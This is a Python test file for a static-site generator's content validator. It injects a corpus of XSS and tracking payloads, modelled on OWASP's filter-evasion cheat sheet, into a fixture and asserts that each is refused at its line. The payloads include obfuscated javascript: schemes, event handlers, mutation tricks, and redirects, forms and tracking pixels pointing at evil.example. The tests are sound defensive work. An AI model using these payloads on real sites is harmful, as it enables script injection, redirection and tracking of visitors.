"""A corpus of script and tracking payloads, one per way in (after OWASP's XSS filter-evasion cheat sheet): each is
refused by validation, with an error at the exact file and line it was written on."""

from __future__ import annotations

import json
from dataclasses import dataclass
from pathlib import Path

import pytest

from generator.content.check import check
from generator.content.problems import ERROR


@dataclass(frozen=True)
class Payload:
    """Replace the line starting `old` with `new` in a file of the valid fixture; validation must fail at the
    line `offset` lines below the replaced one (so the corpus does not depend on where the fixture puts `old`)."""

    name: str
    path: str
    old: str
    new: str
    offset: int


JOB = "initiatives/2022/03-good-jobs/job-fairs.md"
BODY = "The council plans five job fairs."
SOURCE = "source: Exampleshire audit update, 2022"
ABOUT = "This site publishes Exampleshire Council's audit, one edition a year."
GOAL_1 = "The council puts early years first."


def body(name: str, text: str, offset: int = 2, path: str = JOB, old: str = BODY) -> Payload:
    """A payload in a Markdown body, a paragraph after its first line (`old`), `offset` lines below it."""
    return Payload(name, path, old, f"{old}\n\n{text}", offset)


def field(name: str, old: str, key: str, value: str, offset: int, path: str = JOB) -> Payload:
    return Payload(name, path, old, f"{key}: {json.dumps(value)}", offset)


def link(name: str, title: str, url: str, offset: int) -> Payload:
    block = f"links:\n  - title: {json.dumps(title)}\n    url: {json.dumps(url)}\n{SOURCE}"
    return Payload(name, JOB, SOURCE, block, offset)


IMG = "<img src=x onerror=alert(1)>"
DECIMAL = "".join(f"&#{ord(c)};" for c in "javascript:")
HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert(1)")
SITE, GOALS, EDITION = "content/site.yml", "content/goals.yml", "content/2022/edition.yml"
PLACES = "content/places.yml"
REFRESH = '0;url=https://evil.example/" http-equiv="refresh'  # sent every page to another site
PAYLOADS = [
    # Markdown bodies: raw HTML, as the cheat sheet writes it.
    body("script-tag", "<script>alert(1)</script>"),
    body("gt-inside-quoted-attribute", '<img alt=">" src=x onerror=alert(1)>'),
    body("mixed-case-scheme-img", "<IMG SRC=JaVaScRiPt:alert(1)>"),
    body("tab-entity-in-scheme", '<a href="jav&#x09;ascript:alert(1)">more</a>'),
    body("newline-entity-in-scheme", '<a href="java&NewLine;script:alert(1)">more</a>'),
    body("decimal-entities-scheme", f'<a href="{DECIMAL}alert(1)">x</a>'),
    body("hex-entities-no-semicolons", f'<a href="{HEX}">x</a>'),
    body("control-char-before-scheme", '<a href=" &#14;  javascript:alert(1)">x</a>'),
    body("vbscript-link", '<a href="vbscript:msgbox(1)">x</a>'),
    body("multi-line-tag", "<img\nsrc=x\nonerror=alert(1)>", offset=4),
    body("nested-script-tags", "<scr<script>ipt>alert(1)</script>"),
    body("malformed-comment", "<!--x--!><img src=x onerror=alert(1)>-->"),
    body("abrupt-comment-hides-tag", "<!--><img src=x onerror=alert(1)>-->"),
    body("cdata-hides-tag", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    body("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    body("svg-onload", "<svg onload=alert(1)>"),
    body("svg-script", "<svg><script>alert(1)</script></svg>"),
    body("math-style-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    body("body-onload", "<body onload=alert(1)>"),
    body("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    body("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    body("iframe", '<iframe src="https://evil.example/"></iframe>'),
    body("object-data", '<object data="javascript:alert(1)"></object>'),
    body("embed", '<embed src="https://evil.example/x.swf">'),
    body("meta-refresh", '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
    body("base-href", '<base href="https://evil.example/">'),
    body("form-action", '<form action="https://evil.example/"><input type="submit"></form>'),
    body("button-formaction", '<button formaction="javascript:alert(1)">x</button>'),
    body("css-url-in-style-attribute", '<div style="background-image: url(https://evil.example/t.png)">x</div>'),
    body("style-element-import", "<style>@import url(https://evil.example/x.css);</style>"),
    body("stylesheet-link", '<link rel="stylesheet" href="https://evil.example/x.css">'),
    body("table-background", '<table background="https://evil.example/t.png"><tr><td>x</td></tr></table>'),
    body("video-poster", '<video poster="https://evil.example/p.png"></video>'),
    body("srcset", '<img src="chart.png" srcset="https://evil.example/t.png 2x" alt="">'),
    body("link-ping", '<a href="https://example.org/" ping="https://evil.example/track">x</a>'),
    # Markdown bodies: Markdown syntax, no '<' needed.
    body("markdown-javascript-link", "[more](JaVaScRiPt:alert(1))"),
    body("markdown-tab-entity-scheme", "[more](jav&#x09;ascript:alert(1))"),
    body("markdown-newline-entity-scheme", "[more](java&NewLine;script:alert(1))"),
    body("markdown-data-link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    body("remote-image", "![pixel](https://evil.example/t.png)"),
    body("protocol-relative-image", "![pixel](//evil.example/t.png)"),
    body("backslash-host-image", "![pixel](/\\evil.example/t.png)"),
    body("data-url-image", "![x](data:image/svg+xml;base64,PHN2Zz4=)"),
    body("attr-list-after-paragraph", 'A paragraph.\n{: onmouseover="alert(1)" }', offset=3),
    body("attr-list-after-link", '[more](https://example.org/){: onclick="alert(1)" }'),
    body("attr-list-on-heading", '## More {: onclick="alert(1)" }'),
    body("attr-list-style", '![x](chart.png){: style="background:url(https://evil.example/t.png)" }'),
    body("reference-definition", "[x]: https://evil.example/t.png"),
    # Text fields that templates print raw, as HTML or as Markdown.
    field("title-event-attribute", "title: Job fairs", "title", f"Job fairs {IMG}", 0),
    field("title-escaped-for-markdown-only", "title: Job fairs", "title", "\\<script>alert(1)</script>", 0),
    field("title-in-code-span", "title: Job fairs", "title", f"`{IMG}`", 0),
    field("title-raw-html-markdown-escapes", "title: Job fairs", "title", "<IMG SRC=JaVaScRiPt:alert('XSS')>", 0),
    field("title-attr-list", "title: Job fairs", "title", 'Job fairs {: onclick="alert(1)" }', 0),
    # A heading's id is made from its text: Material's own controls have ids such as __search.
    field("title-heading-id-of-the-site", "title: Job fairs", "title", "__search", 0),
    field("title-heading-id-by-entities", "title: Job fairs", "title", "&#95;&#95;drawer", 0),
    field("title-heading-id-by-wide-low-lines", "title: Job fairs", "title", "\uff3f\uff3fsearch", 0),
    field("goal-title-heading-id", "    title: Early years", "    title", "__search", 0, GOALS),
    field("summary-script", "summary: Fairs", "summary", "<script>alert(1)</script>", 0),
    field("summary-reference-definition", "summary: Fairs", "summary", "Fairs.\n[x]: https://evil.example/t.png", 0),
    field("source-attr-list-in-emphasis", SOURCE, "source", 'Audit*{: onmouseover="alert(1)"}', 0),
    field("places-event-attribute", "places: [Northtown, Elsewhere County]", "places", IMG, 0),
    field("metric-label-svg", "  - label: Fairs planned", "  - label", "<svg onload=alert(1)>", 0),
    field("metric-label-remote-image", "  - label: Fairs planned", "  - label", "![t](https://evil.example/t.png)", 0),
    link("link-title-breaks-out", "x](javascript:alert(1)) [y", "https://example.org/", 1),
    link("link-url-adds-image", "Fairs", 'https://example.org/ "t") ![x](https://evil.example/t.png', 2),
    link("link-url-attr-list", "Fairs", 'https://example.org/){: onclick="alert(1)" }', 2),
    Payload("partner-event-attribute", JOB, SOURCE, f"partners: [{json.dumps(IMG)}]\n{SOURCE}", 0),
    field("goal-title", "    title: Early years", "    title", IMG, 0, GOALS),
    field("goal-definition", "    definition: Give every", "    definition", f"Best start. {IMG}", 0, GOALS),
    field("edition-title", "title: Audit 2022", "title", "</title><script>alert(1)</script>", 0, EDITION),
    field("edition-summary", "summary: The second audit", "summary", IMG, 0, EDITION),
    Payload(
        "place-name", "content/places.yml", "places:", f"places:\n  - name: {json.dumps(IMG)}\n    kind: outside", 1
    ),
    field("page-title", "title: About this site", "title", IMG, 0, "content/pages/about.md"),
    body("page-body", "<script>alert(1)</script>", 2, "content/pages/about.md", ABOUT),
    body("goal-page-body", "![t](https://evil.example/t.png)", 2, "initiatives/2022/01-early-years/index.md", GOAL_1),
    # site.yml: Material prints these into HTML, some inside attributes it does not escape.
    field("site-footer-script", "footer:", "footer", "<script>alert(1)</script>", 0, SITE),
    field("site-footer-link", "footer:", "footer", '<a href="javascript:alert(1)">c</a>', 0, SITE),
    field("site-name-attribute", "site_name:", "site_name", 'Audit" onmouseover="alert(1)', 0, SITE),
    field(
        "site-description-refresh",
        "description:",
        "description",
        '0;url=https://evil.example/" http-equiv="refresh',
        0,
        SITE,
    ),
    field("site-url-attribute", "site_url:", "site_url", 'https://a.example/" onload="x/', 0, SITE),
    field("site-url-javascript", "site_url:", "site_url", "javascript:alert(1)//", 0, SITE),
    field("site-language", "language:", "language", 'en" onload="alert(1)', 0, SITE),
    # A ./ makes a scheme a file name here; moved to the page's folder, the link lost its ./ (a hostile review).
    body("dot-slash-scheme-markdown-link", "[more](./javascript:alert(1))"),
    body("dot-slash-scheme-html-link", '<a href="./javascript:alert(1)">more</a>'),
    body("dot-slash-scheme-image", '<img src="./http:/tracker.example/p.png" alt="a picture">'),
    field("site-url-empty-folder", "site_url:", "site_url", "https://audit.example.org//tracker.example/", 0, SITE),
]


def _apply(root: Path, payload: Payload) -> int:
    """Apply the payload; the line number its error must name."""
    path = root / payload.path
    lines = path.read_text(encoding="utf-8").split("\n")
    index = next(i for i, line in enumerate(lines) if line.startswith(payload.old))
    lines[index] = payload.new
    path.write_text("\n".join(lines), encoding="utf-8")
    return index + 1 + payload.offset


def test_the_corpus_is_large_and_names_are_unique() -> None:
    assert len(PAYLOADS) >= 40
    assert len({p.name for p in PAYLOADS}) == len(PAYLOADS)


@pytest.mark.parametrize("payload", PAYLOADS, ids=[p.name for p in PAYLOADS])
def test_payload_is_refused_at_its_line(project: Path, payload: Payload) -> None:
    line = _apply(project, payload)
    checked = check(project)
    errors = [p for p in checked.problems if p.severity == ERROR]
    assert checked.project is None
    assert (payload.path, line) in {(p.path, p.line) for p in errors}, [p.text() for p in errors]


def test_a_hostile_file_name_is_refused(project: Path) -> None:
    name = "content/pages/x--><img src=x onerror=alert(1)>.md"
    (project / name).write_text("---\ntitle: X\n---\nText.\n", encoding="utf-8")
    errors = [p for p in check(project).problems if p.severity == ERROR]
    assert [(p.path, p.line, p.col) for p in errors] == [(name, 1, 1)]
    assert "not a lowercase slug" in errors[0].message
